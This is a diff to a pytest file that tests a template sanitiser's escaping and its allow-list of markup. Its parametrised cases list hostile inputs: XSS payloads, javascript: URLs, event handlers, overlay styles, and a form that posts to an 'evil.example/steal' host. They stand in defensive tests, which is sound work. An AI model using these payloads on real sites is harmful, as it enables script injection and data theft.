@@ -53,7 +53,7 @@ def test_script_in_profile_field_is_inert():
     out = render('<p>{{ traits.first_name }}</p><a title="{{ top_category }}">', profile=evil)
     assert "<script>" not in out and "<img" not in out
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out
-    assert "&#34;&gt;&lt;img" in out
+    assert "&quot;&gt;&lt;img" in out  # inside the attribute, as the sanitiser spells it
 
 
 def test_jinja_in_profile_field_is_not_evaluated():
@@ -81,3 +81,44 @@ def test_syntax_errors_carry_field_and_line():
         compile_template({"html": 5})
     with pytest.raises(TemplateError):
         compile_template({"bad name": "x"})
+
+
+@pytest.mark.parametrize(
+    ("source", "line", "reason"),
+    [
+        ("{{ traits.bio | safe }}", 1, "the safe filter is not allowed"),
+        ("<p>\n{% filter safe %}{{ x }}{% endfilter %}</p>", 2, "the safe filter is not allowed"),
+        ("x\n\n{% autoescape false %}{{ x }}{% endautoescape %}", 3, "autoescape cannot be turned off"),
+        ("{% autoescape flag %}{{ x }}{% endautoescape %}", 1, "autoescape cannot be turned off"),
+        ("<p>hi</p>\n<style>*{position:fixed;inset:0}</style>", 2, "<style> is not allowed"),
+        ('<form action="https://evil.example/steal"><input name=e></form>', 1,
+         "attribute 'action' is not allowed on <form>"),
+        ('<link rel="stylesheet" href="https://evil.example/x.css">', 1, "<link> is not allowed"),
+        ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', 1, "<svg> is not allowed"),
+        ('<a href="javascript:alert(1)">x</a>', 1, "must be an http(s) or mailto URL or a path"),
+        ('<a href=" java\tscript:{{ x }}">x</a>', 1, "must be an http(s) or mailto URL or a path"),
+        ('<a href="//evil.example">x</a>', 1, "must be an http(s) or mailto URL or a path"),
+        ('<img src="/x.png" onerror="alert(1)">', 1, "event handlers never are"),
+        ('<div style="position:fixed;inset:0">x</div>', 1, "attribute 'style' is not allowed"),
+    ],
+)
+def test_escape_hatches_and_markup_outside_the_allow_list_are_refused(source, line, reason):
+    with pytest.raises(TemplateError) as info:
+        compile_template({"html": source})
+    assert info.value.lineno == line and reason in info.value.reason
+
+
+def test_rendered_fields_are_sanitised():
+    """What exists only once rendered (a trait in an href) goes through the allow-list too."""
+    import re
+
+    from engine.logic.decisions.templates import url_allowed
+
+    t = compile_template({"html": '<a href="{{ traits.site }}">me</a><a href="/{{ traits.site }}">p</a>'})
+    for bad in ("javascript:alert(1)", "/evil.example", "data:text/html,x", "\\evil.example"):
+        out = t.render(template_vars({"traits": {"site": bad}}))["html"]
+        hrefs = re.findall(r'href="([^"]*)"', out)
+        assert all(url_allowed(h) and not h.startswith("//") for h in hrefs), out
+        assert 'href="javascript:' not in out and 'href="//' not in out, out
+    ok = t.render(template_vars({"traits": {"site": "https://ada.example"}}))["html"]
+    assert 'href="https://ada.example"' in ok
